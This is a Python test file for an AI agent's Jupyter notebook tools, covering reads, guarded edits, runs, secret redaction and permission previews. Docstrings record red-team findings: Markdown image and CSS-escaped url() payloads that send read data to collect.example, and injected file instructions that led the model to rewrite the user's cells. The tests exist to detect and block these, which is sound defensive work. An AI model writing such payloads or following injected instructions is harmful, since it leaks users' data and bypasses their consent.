"""The notebook tools against the bridge protocol (a Python front-end; the browser tests drive the
real extension): read pages with outputs and images, edits refused on unread or changed cells,
runs whose outputs land in the document and that a timeout interrupts."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

from nbagent.engine.contracts.tool_api import ToolContext
from nbagent.notebook.document.bridge import Bridge, BridgeUnavailable
from nbagent.notebook.document.inputs import CellLog
from nbagent.notebook.document.removal import ORIGIN
from nbagent.notebook.document.tools import NotebookTools
from nbagent.notebook.executor import ShellExecutor

from .fake_frontend import FakeFrontEnd

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def cells() -> list[dict[str, Any]]:
    return [
        {"cell_type": "markdown", "source": "# Sales"},
        {"cell_type": "code", "source": "x = 40", "outputs": []},
        {"cell_type": "code", "source": "plot()", "outputs": [
            {"output_type": "stream", "name": "stdout", "text": "drawn\n"},
            {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": "<Figure>"}, "metadata": {}}]},
    ]


@pytest.fixture
def front() -> FakeFrontEnd:
    return FakeFrontEnd(cells())


@pytest.fixture
def tools(front: FakeFrontEnd) -> dict[str, Any]:
    source = NotebookTools(front.connect(Bridge()), lambda: "S1")
    return {t.name: t for t in source.tools()}


def ctx(tmp_path: Path, executor: Any = None) -> ToolContext:
    return ToolContext(cwd=tmp_path, turn=3, tool_use_id="toolu_1", executor=executor)


async def call(tools: dict[str, Any], name: str, tmp_path: Path, executor: Any = None, **args: Any) -> Any:
    return await tools[name].run(args, ctx(tmp_path, executor))


async def test_read_shows_each_cell_with_id_source_outputs_and_images(tools, tmp_path):
    out = await call(tools, "notebook_read", tmp_path)
    text = out.content[0]["text"]
    assert "3 cells" in text and "[1] id=c2 code" in text and "x = 40" in text and "drawn" in text
    assert out.content[1]["type"] == "image" and out.content[1]["source"]["media_type"] == "image/png"


async def test_read_is_paged(tools, tmp_path):
    out = await call(tools, "notebook_read", tmp_path, start=0, count=1)
    assert "showing 0–0" in out.content and "read again with start=1" in out.content


async def test_a_read_past_the_last_cell_says_so(tools, tmp_path):
    # It answered "3 cells; showing 99–98." with no cell and no error: a client paging on read it
    # as an empty page, not as a start past the end.
    out = await call(tools, "notebook_read", tmp_path, start=99)
    assert out.is_error and "start=99 is past the notebook's last cell" in out.content and "0–2" in out.content
    assert not (await call(tools, "notebook_read", tmp_path, start=2)).is_error


async def test_replace_needs_a_read_and_refuses_a_cell_changed_since(front, tools, tmp_path):
    unread = await call(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", source="x = 41")
    assert unread.is_error and "has not been read" in unread.content
    await call(tools, "notebook_read", tmp_path)
    front.cells[1]["source"] = "x = 99  # the user typed here"
    changed = await call(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", source="x = 41")
    assert changed.is_error and "changed since you last read it" in changed.content
    assert front.cells[1]["source"] == "x = 99  # the user typed here"
    await call(tools, "notebook_read", tmp_path)
    done = await call(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", source="x = 41")
    assert not done.is_error and front.cells[1]["source"] == "x = 41"
    mark = front.cells[1]["metadata"]["nbagent"]
    assert {k: mark[k] for k in ("session", "turn", "tool_use_id", "kind", "origin")} == {
        "session": "S1", "turn": 3, "tool_use_id": "toolu_1", "kind": "edit", "origin": ORIGIN}


async def test_insert_delete_and_move(front, tools, tmp_path):
    await call(tools, "notebook_read", tmp_path)
    added = await call(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source="y = 2")
    assert not added.is_error and front.sources() == ["# Sales", "y = 2", "x = 40", "plot()"]
    moved = await call(tools, "notebook_edit", tmp_path, action="move", cell_id="c3", index=0)
    assert not moved.is_error and front.sources()[0] == "plot()"
    refused = await call(tools, "notebook_edit", tmp_path, action="delete", cell_id="c2")
    assert refused.is_error and "Ask the user to delete it" in refused.content and "x = 40" in front.sources()
    new_id = next(c["id"] for c in front.cells if c["source"] == "y = 2")  # the model's own cell: its to delete
    gone = await call(tools, "notebook_edit", tmp_path, action="delete", cell_id=new_id)
    assert not gone.is_error and "y = 2" not in front.sources()
    markdown = await call(tools, "notebook_edit", tmp_path, action="delete", cell_id="c1")
    assert markdown.is_error and "not a code cell" in markdown.content and "# Sales" in front.sources()


async def test_delete_refuses_the_models_own_cell_once_the_user_edited_it(front, tools, tmp_path):
    await call(tools, "notebook_read", tmp_path)
    await call(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source="y = 2")
    new_id = front.cells[1]["id"]
    front.cells[1]["source"] = "y = 3  # mine now"
    await call(tools, "notebook_read", tmp_path)
    refused = await call(tools, "notebook_edit", tmp_path, action="delete", cell_id=new_id)
    assert refused.is_error and "edited by you" in refused.content
    assert "y = 3  # mine now" in front.sources()


async def test_run_puts_the_outputs_in_the_document(front, tools, tmp_path):
    shell = InteractiveShell.instance()
    out = await call(tools, "notebook_run", tmp_path, ShellExecutor(shell), cell_id="c2")
    assert not out.is_error and shell.user_ns["x"] == 40
    front.cells[1]["source"] = "print(x + 2)"
    out = await call(tools, "notebook_run", tmp_path, ShellExecutor(shell), cell_id="c2")
    assert "42" in out.content
    assert front.cells[1]["outputs"] == [{"output_type": "stream", "name": "stdout", "text": "42\n"}]


async def test_a_run_writes_its_outputs_into_the_document_redacted(front, tools, tmp_path):
    """notebook_run's outputs are written into the cell by nbagent (the bridge), as a materialised
    cell's are, and saved with the notebook: redacted like them. The model (or an MCP client) that
    edited a cell to print the key and ran it left the key in the notebook's file (attacker pass 10)."""
    from nbagent.engine.loop.sanitize import Sanitizer

    secret = "Zq8rT2vLx9Wm4Kp7Hs3N"
    shell = InteractiveShell.instance()
    shell.user_ns["db"] = {"password": secret}
    front.cells[1]["source"] = ("import sys\nprint(db['password'])\nprint(db, file=sys.stderr)\n"
                                "display({'text/html': '<b>' + db['password'] + '</b>', 'text/plain': 'pw'}, raw=True)\n"
                                "raise ValueError(db['password'])")
    redacting = ToolContext(cwd=tmp_path, turn=3, tool_use_id="toolu_1", executor=ShellExecutor(shell),
                            redact=Sanitizer((secret,)).redact)
    out = await tools["notebook_run"].run({"cell_id": "c2"}, redacting)
    assert out.is_error
    saved = str(front.cells[1]["outputs"])
    assert secret not in saved and "[redacted]" in saved and "ValueError" in saved


async def test_a_cell_the_agent_ran_is_logged_with_the_text_it_ran(front, tmp_path):
    # No post_run_cell hook sees notebook_run: without this, the text the user last ran stayed the
    # cell's among the cells in context, and a replay called the cell changed once fixed.
    log = CellLog(None)
    log.ran("c2", "x = 4O  # the user's typo")
    tools = {t.name: t for t in NotebookTools(front.connect(Bridge()), lambda: "S", log=log).tools()}
    out = await call(tools, "notebook_run", tmp_path, ShellExecutor(InteractiveShell.instance()), cell_id="c2")
    assert not out.is_error and log.latest["c2"] == "x = 40"
    assert "x = 4O  # the user's typo" in log.superseded
    assert log.agent_texts == {"c2": "x = 40"}


async def test_a_cell_the_agent_edited_is_logged_as_its_work_not_as_run(front, tmp_path):
    log = CellLog(None)
    log.ran("c2", "x = 4O")
    tools = {t.name: t for t in NotebookTools(front.connect(Bridge()), lambda: "S", log=log).tools()}
    await call(tools, "notebook_read", tmp_path)
    out = await call(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", source="x = 41")
    assert not out.is_error and log.agent_texts == {"c2": "x = 41"}
    assert log.latest["c2"] == "x = 4O"  # the kernel still holds what the old text made


async def test_a_run_past_its_timeout_is_interrupted_and_the_agent_goes_on(front, tools, tmp_path):
    front.cells[1]["source"] = "import time\nfor _ in range(600): time.sleep(0.05)"
    out = await call(tools, "notebook_run", tmp_path, ShellExecutor(InteractiveShell.instance()),
                     cell_id="c2", timeout_s=1)
    assert out.is_error and "KeyboardInterrupt" in out.content
    assert front.cells[1]["outputs"][-1]["output_type"] == "error"
    await asyncio.sleep(0)  # the loop is still running: the agent was not cancelled


async def test_a_markdown_cell_does_not_run(tools, tmp_path):
    out = await call(tools, "notebook_run", tmp_path, ShellExecutor(InteractiveShell.instance()), cell_id="c1")
    assert out.is_error and "markdown" in out.content


def test_no_tools_are_offered_without_a_front_end() -> None:
    assert list(NotebookTools(Bridge(), lambda: "S").tools()) == []


async def test_a_front_end_that_stops_answering_is_a_clear_error_once_then_no_tools(front, tmp_path):
    bridge = front.connect(Bridge())
    front.answer = False
    with pytest.raises(BridgeUnavailable, match="did not answer"):
        await bridge.request("read", timeout=0.2)
    assert not bridge.connected and list(NotebookTools(bridge, lambda: "S").tools()) == []


async def test_an_unanswered_request_reopens_the_comm_and_goes_to_the_page_that_answers(front, monkeypatch):
    """A page reloaded where the kernel could not tell (no session to compare): the request on the
    old comm goes unanswered, the kernel opens a new comm, the new page says hello, and the same
    request is sent once more instead of the bridge giving up."""
    bridge = front.connect(Bridge())
    front.answer = False  # the old page is gone
    reloaded = FakeFrontEnd([{"cell_type": "code", "source": "x = 1"}])
    monkeypatch.setattr(Bridge, "open", lambda self: reloaded.connect(self) is self)  # its comm_open, its hello
    result = await bridge.request("read", timeout=0.2)
    assert [c["source"] for c in result["cells"]] == ["x = 1"]
    assert bridge.connected and bridge.reopened == 1 and [r["op"] for r in reloaded.requests] == ["read"]


# --- what the permission question shows (the tools' preview) -------------------------------------

async def preview(tools: dict[str, Any], name: str, tmp_path: Path, **args: Any) -> Any:
    tool = tools[name]
    return await tool.preview(tool.validate(args), ctx(tmp_path))


async def test_an_edit_previews_the_cell_as_it_is_and_as_it_will_be(front, tools, tmp_path):
    await call(tools, "notebook_read", tmp_path)
    replace = await preview(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", source="x = 41")
    assert (replace.summary, replace.before, replace.after) == ("replace cell 1 (id c2, code)", "x = 40", "x = 41")
    to_markdown = await preview(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", source="# x",
                                cell_type="markdown")
    assert to_markdown.summary.endswith("code → markdown") and to_markdown.language == "markdown"
    delete = await preview(tools, "notebook_edit", tmp_path, action="delete", cell_id="c3")
    assert (delete.before, delete.after) == ("plot()", None)
    insert = await preview(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source="y = 2")
    assert (insert.summary, insert.before, insert.after) == (
        "insert a new code cell after cell 0 (id c1, markdown)", None, "y = 2")
    move = await preview(tools, "notebook_edit", tmp_path, action="move", cell_id="c3", index=0)
    assert move.summary == "move cell 2 (id c3, code) to index 0" and move.before == move.after == "plot()"
    assert front.sources() == ["# Sales", "x = 40", "plot()"]  # a preview changes nothing


async def test_an_edit_preview_names_the_hosts_a_markdown_cell_will_fetch_from(front, tools, tmp_path):
    """A Markdown cell is rendered by JupyterLab, which keeps ``<img src="https://…">``: the agent view
    shows the model's images as links, but a cell it writes made the page fetch a URL that can carry
    what the model read (attacker pass 10). The question says so; a link or a local image does not."""
    await call(tools, "notebook_read", tmp_path)
    leak = "## Summary\n![chart](https://collect.example/c.png?d=north-41-south-2)"
    insert = await preview(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source=leak,
                           cell_type="markdown")
    assert "the page fetches from collect.example" in insert.summary
    replace = await preview(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", cell_type="markdown",
                            source='<img src="//cdn.example/x.png">')
    assert "fetches from cdn.example" in replace.summary
    for quiet in ("See [the docs](https://docs.example) and ![plot](plot.png)", "![x](https://a.example/x.png)"):
        shown = await preview(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source=quiet,
                              cell_type="markdown" if "docs" in quiet else "code")
        assert "fetches" not in shown.summary


async def test_a_markdown_cell_that_fetches_asks_even_when_notebook_edit_is_allowed(tools):
    """With notebook_edit allowed (the allow list, or "Allow always"), the model inserted a Markdown cell
    whose image URL carried what it read, and nobody was asked (attacker pass 10). Such an edit asks each
    time, as a protected write does; with no one to ask it is refused. Other edits keep the allowance."""
    from nbagent.engine.contracts.permissions import Allow, Deny, PermissionGate

    edit = tools["notebook_edit"]
    leak = {"action": "insert", "cell_type": "markdown", "source": "![c](https://collect.example/c.png?d=41)"}
    plain = {"action": "insert", "cell_type": "markdown", "source": "## Summary\nsee [the docs](https://x.org)"}

    async def ask(*_args: Any) -> Any:
        return Allow()

    gate = PermissionGate(ask, allow=["notebook_edit"])
    assert gate.will_ask(edit, leak) and "collect.example" in (gate.protected_reason(edit, leak) or "")
    assert not gate.will_ask(edit, plain) and not gate.will_ask(edit, {**leak, "cell_type": "code"})
    gate.allow_always("notebook_edit")
    assert gate.will_ask(edit, leak)
    unattended = PermissionGate(None, allow=["notebook_edit"])
    decision = await unattended.check(edit, "toolu_1", leak, 1)
    assert isinstance(decision, Deny) and "collect.example" in decision.reason


async def test_a_markdown_cell_whose_style_url_is_css_escaped_asks_even_when_notebook_edit_is_allowed(tools):
    """``url(\\68ttps://…)`` read as a path beside the notebook: with notebook_edit allowed it was inserted
    unasked, and JupyterLab's page fetched https://… with what the URL carried (attacker pass 11)."""
    from nbagent.engine.contracts.permissions import Deny, PermissionGate

    edit = tools["notebook_edit"]
    leak = {"action": "insert", "cell_type": "markdown",
            "source": '<span style="background-image:url(\\68ttps://collect.example/c?d=41)">.</span>'}
    gate = PermissionGate(None, allow=["notebook_edit"])
    decision = await gate.check(edit, "toolu_1", leak, 1)
    assert isinstance(decision, Deny) and "collect.example" in decision.reason


async def test_an_edit_preview_warns_when_the_cell_is_not_what_the_model_read(front, tools, tmp_path):
    await call(tools, "notebook_read", tmp_path)
    front.cells[1]["source"] = "x = 99  # the user typed here"
    shown = await preview(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", source="x = 41")
    assert shown.before == "x = 99  # the user typed here" and "this edit will be refused" in shown.summary
    missing = await preview(tools, "notebook_edit", tmp_path, action="delete", cell_id="nope")
    assert "no such cell" in missing.summary


async def test_a_run_previews_its_source_and_refuses_code_changed_after_the_question(front, tools, tmp_path):
    shell = InteractiveShell.instance()
    shown = await preview(tools, "notebook_run", tmp_path, cell_id="c2")
    assert (shown.summary, shown.before, shown.after) == ("run cell 1 (id c2, code) in the kernel", "x = 40", "x = 40")
    front.cells[1]["source"] = "x = 'not what was allowed'"
    out = await call(tools, "notebook_run", tmp_path, ShellExecutor(shell), cell_id="c2")
    assert out.is_error and "changed after the user was asked" in out.content
    assert shell.user_ns.get("x") != "not what was allowed"
    # Asked again, it runs what was shown.
    await preview(tools, "notebook_run", tmp_path, cell_id="c2")
    out = await call(tools, "notebook_run", tmp_path, ShellExecutor(shell), cell_id="c2")
    assert not out.is_error and shell.user_ns["x"] == "not what was allowed"
    markdown = await preview(tools, "notebook_run", tmp_path, cell_id="c1")
    assert "only code cells run" in markdown.summary and markdown.after is None


async def test_a_cell_the_agent_ran_shows_the_execution_count_it_ran_under(front, tools, tmp_path):
    shell = InteractiveShell.instance()
    front.cells[1]["source"] = "x * 2"
    shell.displayhook.exec_result = ExecutionResult(None)  # as IPython does while the agent cell [9] runs
    shell.displayhook.exec_result.execution_count = 9
    try:
        await call(tools, "notebook_run", tmp_path, ShellExecutor(shell), cell_id="c2")
    finally:
        shell.displayhook.exec_result = None
    ran = front.cells[1]
    assert ran["execution_count"] == 9
    assert ran["outputs"][0]["output_type"] == "execute_result" and ran["outputs"][0]["execution_count"] == 9


# --- what notebook_read sends of a cell's images ---------------------------------------------------

def _png(width: int, height: int, noisy: bool = False) -> str:
    import base64
    import io
    import os

    from PIL import Image

    image = Image.frombytes("RGB", (width, height), os.urandom(width * height * 3)) if noisy else \
        Image.new("RGB", (width, height), (30, 120, 200))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return base64.b64encode(buffer.getvalue()).decode("ascii")


def _image_cell(*pngs: str) -> dict[str, Any]:
    return {"cell_type": "code", "source": "show()", "outputs": [
        {"output_type": "display_data", "data": {"image/png": p, "text/plain": "<Figure>"}, "metadata": {}} for p in pngs]}


async def test_read_sends_a_huge_image_downscaled_and_says_so(tmp_path):
    import base64
    import io

    from PIL import Image

    from nbagent.notebook.document.images import MAX_IMAGE_BYTES, MAX_IMAGE_EDGE

    huge = _png(2400, 1500, noisy=True)  # about 10 MB of noise: PNG cannot compress it
    assert len(base64.b64decode(huge)) > 5 * MAX_IMAGE_BYTES
    front = FakeFrontEnd([_image_cell(huge)])
    tools = {t.name: t for t in NotebookTools(front.connect(Bridge()), lambda: "S").tools()}
    out = await call(tools, "notebook_read", tmp_path)
    text, image = out.content[0]["text"], out.content[1]
    sent = base64.b64decode(image["source"]["data"])
    assert len(sent) <= MAX_IMAGE_BYTES
    with Image.open(io.BytesIO(sent)) as shown:
        assert max(shown.size) <= MAX_IMAGE_EDGE
    assert "image/png output of 2400×1500 px" in text and "sent downscaled to" in text
    assert len(str(out.content)) < 2 * MAX_IMAGE_BYTES  # not the 10 MB it was


async def test_read_sends_small_images_as_they_are_and_at_most_four(tmp_path):
    small = _png(40, 20)
    front = FakeFrontEnd([_image_cell(small, small, small), _image_cell(small, small, small)])
    tools = {t.name: t for t in NotebookTools(front.connect(Bridge()), lambda: "S").tools()}
    out = await call(tools, "notebook_read", tmp_path)
    images = [b for b in out.content if b["type"] == "image"]
    assert len(images) == 4 and all(b["source"]["data"] == small for b in images)
    assert "[2 more image(s) of this cell not sent: at most 4 per notebook_read" in out.content[0]["text"]


async def test_an_image_that_cannot_be_downscaled_is_left_out_with_a_note(tmp_path, monkeypatch):
    import builtins

    real_import = builtins.__import__

    def no_pillow(name: str, *args: Any, **kwargs: Any) -> Any:
        if name == "PIL" or name.startswith("PIL."):
            raise ImportError("no Pillow here")
        return real_import(name, *args, **kwargs)

    huge = _png(2400, 1500, noisy=True)
    monkeypatch.setattr(builtins, "__import__", no_pillow)
    front = FakeFrontEnd([_image_cell(huge)])
    tools = {t.name: t for t in NotebookTools(front.connect(Bridge()), lambda: "S").tools()}
    out = await call(tools, "notebook_read", tmp_path)
    assert isinstance(out.content, str)  # no image block at all
    assert "MB left out: over the 1.0 MB notebook_read sends for one image]" in out.content


async def test_read_redacts_a_cell_output_before_cutting_it(tmp_path):
    from nbagent.engine.contracts.tool_api import truncate_middle
    from nbagent.engine.loop.sanitize import REDACTED, Sanitizer
    from nbagent.notebook.document.tools import CELL_OUTPUT_CHARS

    token = "gw_live_4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c"
    head_len = truncate_middle("A" * 8_000, CELL_OUTPUT_CHARS).index("\n")
    line = "x" * (head_len - 10) + token + "y" * 8_000  # 10 characters of it before the cut
    front = FakeFrontEnd([{"cell_type": "code", "source": "print(cfg)", "outputs": [
        {"output_type": "stream", "name": "stdout", "text": line}]}])
    read = {t.name: t for t in NotebookTools(front.connect(Bridge()), lambda: "S1").tools()}["notebook_read"]
    context = ToolContext(cwd=tmp_path, tool_use_id="toolu_1", redact=Sanitizer((token,)).redact)
    out = await read.run({}, context)
    text = out.content if isinstance(out.content, str) else out.content[0]["text"]
    assert REDACTED in text and token[:10] not in text


async def test_a_cell_the_turn_read_and_then_ran_is_no_output_input_of_its_answer(front, tools, tmp_path):
    # notebook_run writes the outputs in nbagent's own form (redacted, displays merged), which a
    # kernel's Run All never gives again: recorded, every replay read "the output … changed" (review
    # of session 57). The cells it only read stay inputs.
    from nbagent.notebook.document.inputs import TurnWatch

    shell = InteractiveShell.instance()
    with TurnWatch(shell, tmp_path, None) as watch:
        await call(tools, "notebook_read", tmp_path)
        await call(tools, "notebook_run", tmp_path, ShellExecutor(shell), cell_id="c2")
    recorded = watch.inputs().read_outputs
    assert "c2" not in recorded and "c3" in recorded



async def test_a_cell_the_turn_ran_and_then_read_is_no_output_input_of_its_answer(front, tools, tmp_path):
    # The other order: run, then read the notebook (its outputs now nbagent's own form).
    from nbagent.notebook.document.inputs import TurnWatch

    shell = InteractiveShell.instance()
    with TurnWatch(shell, tmp_path, None) as watch:
        await call(tools, "notebook_run", tmp_path, ShellExecutor(shell), cell_id="c2")
        await call(tools, "notebook_read", tmp_path)
    recorded = watch.inputs().read_outputs
    assert "c2" not in recorded and "c3" in recorded


async def test_a_replace_or_move_of_the_users_cell_asks_each_time_even_when_notebook_edit_is_allowed(tools, tmp_path):
    """With notebook_edit allowed (``--allow``, the allow list, "Allow always" given for one fix),
    the model rewrote and reordered the user's cells unasked, whatever a file it read told it to
    (attacker pass 16, D1). A replace or move of a cell the agent did not make asks each time; with
    no one to ask it is refused; the agent's own cells and inserts keep the allowance; bypass runs it."""
    from nbagent.engine.contracts.permissions import Allow, Deny, PermissionGate

    async def ask(*_args: Any) -> Any:
        return Allow()

    edit = tools["notebook_edit"]
    await call(tools, "notebook_read", tmp_path)
    inserted = await call(tools, "notebook_edit", tmp_path, action="insert", cell_id="c2", source="y = 1")
    new_id = inserted.content.split()[3]
    rewrite = {"action": "replace", "cell_id": "c2", "source": "x = 0"}
    gate = PermissionGate(ask, allow=["notebook_edit"])
    assert "did not make" in (gate.protected_reason(edit, rewrite) or "")
    assert gate.will_ask(edit, {"action": "move", "cell_id": "c2", "index": 0})
    gate.allow_always("notebook_edit")
    assert gate.will_ask(edit, rewrite)
    assert not gate.will_ask(edit, {"action": "replace", "cell_id": new_id, "source": "y = 2"})  # the agent's own
    assert not gate.will_ask(edit, {"action": "insert", "cell_id": "c2", "source": "z = 1"})
    decision = await PermissionGate(None, allow=["notebook_edit"]).check(edit, "toolu_2", rewrite, 1)
    assert isinstance(decision, Deny) and "did not make" in decision.reason
    bypass = PermissionGate(None)
    bypass.mode = "bypass"
    assert bypass.protected_reason(edit, rewrite) is None


async def test_a_cell_the_turn_inserted_and_then_read_is_no_input_of_its_answer(front, tools, tmp_path):
    # The cell is the turn's work, as a cell it replaced or ran is: recorded as read, a later turn's
    # fix of it ("fix the cell you made") made every replay of this turn say "the cell … the model
    # read changed" (and fail under --if-changed fail, ask again under live).
    from nbagent.notebook.document.inputs import TurnWatch

    with TurnWatch(InteractiveShell.instance(), tmp_path, None) as watch:
        await call(tools, "notebook_read", tmp_path)
        inserted = await call(tools, "notebook_edit", tmp_path, action="insert", cell_id="c2", source="y = 1")
        await call(tools, "notebook_read", tmp_path)
    new_id = inserted.content.split()[3]
    recorded = watch.inputs()
    assert new_id not in recorded.read_sources and new_id not in recorded.read_outputs
    assert "c2" in recorded.read_sources  # the user's cell it read stays an input
